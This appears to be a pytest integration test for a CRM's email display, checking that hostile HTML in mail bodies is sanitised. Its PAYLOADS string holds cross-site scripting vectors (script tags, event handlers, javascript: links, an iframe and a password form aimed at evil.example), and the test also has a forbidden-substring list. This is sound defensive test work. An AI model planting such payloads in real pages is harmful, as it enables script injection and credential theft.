"""Mail bodies on the record page: HTML sanitised at display time, text kept as text."""

from __future__ import annotations

import re

from fastapi.testclient import TestClient

from inboxcrm.bootstrap import Runtime
from inboxcrm.web.ui.mail_html import sanitize_mail_html
from tests.factories import make_contact, make_email_message
from tests.fixtures.web import TenantFactory
from tests.integration.ui.ui_session import sign_in

PAYLOADS = """
<p>Quarterly <b>numbers</b> and <a href="https://example.org/report">the report</a>.</p>
<script>window.__xss = 1</script>
<img src=x onerror="window.__xss = 2">
<a href="javascript:window.__xss=3">click</a>
<a href=" JaVaScRiPt:window.__xss=4">click2</a>
<svg onload="window.__xss = 5"><circle r="2"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style>
<div style="position:fixed" onmouseover="window.__xss=6">hover</div>
<img src="https://tracker.example.net/open.gif">
<form action="https://evil.example/steal"><input name="password"></form>
<a href="/logout">relative</a>
"""
_BODY = re.compile(
    r'<div class="mail-body">(.*?)</div>\s*(?:<ul class="attachments">|</article>)', re.S
)


def _mail_bodies(page: str) -> list[str]:
    return _BODY.findall(page)


def test_hostile_html_in_a_mail_body_renders_sanitised(
    client: TestClient, tenants: TenantFactory, runtime: Runtime
) -> None:
    rep = tenants.member("acme", "rep")
    sign_in(client, rep)
    with runtime.tenant_uow("acme") as uow:
        contact = make_contact(uow, emails=["cfo@client.example.com"])
        make_email_message(
            uow,
            link_to=[("contact", contact.id)],
            from_address="cfo@client.example.com",
            body_html=PAYLOADS,
            match_detail="cfo@client.example.com",
        )
        make_email_message(
            uow,
            link_to=[("contact", contact.id)],
            body_html=None,
            body_text="<script>window.__xss = 7</script> plain & simple",
        )
    page = client.get(f"/contacts/{contact.id}")
    assert page.status_code == 200
    bodies = _mail_bodies(page.text)
    assert len(bodies) == 2
    html = "\n".join(bodies).lower()
    for forbidden in ("<script", "onerror", "onload", "onmouseover", "javascript:", "<svg",
                      "<iframe", "<style", "style=", "<form", "<input", "tracker.example",
                      'href="/logout"'):  # fmt: skip
        assert forbidden not in html, forbidden
    assert "<b>numbers</b>" in html
    assert 'href="https://example.org/report"' in html
    assert 'rel="noopener noreferrer"' in html
    assert "&lt;script&gt;window.__xss = 7&lt;/script&gt; plain &amp; simple" in html
    assert "one of this record" in page.text  # why the mail is linked here


def test_sanitiser_keeps_formatting_and_embedded_images_only() -> None:
    kept = sanitize_mail_html(
        "<h2>Hi</h2><ul><li>one</li></ul><table><tr><td colspan=2>x</td></tr></table>"
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">'
    )
    assert "<h2>Hi</h2>" in kept and "<li>one</li>" in kept and 'colspan="2"' in kept
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in kept
    assert "src=" not in sanitize_mail_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "href" not in sanitize_mail_html('<a href="data:text/html,<script>x</script>">d</a>')
    assert sanitize_mail_html("<!-- secret --><p>a</p>") == "<p>a</p>"
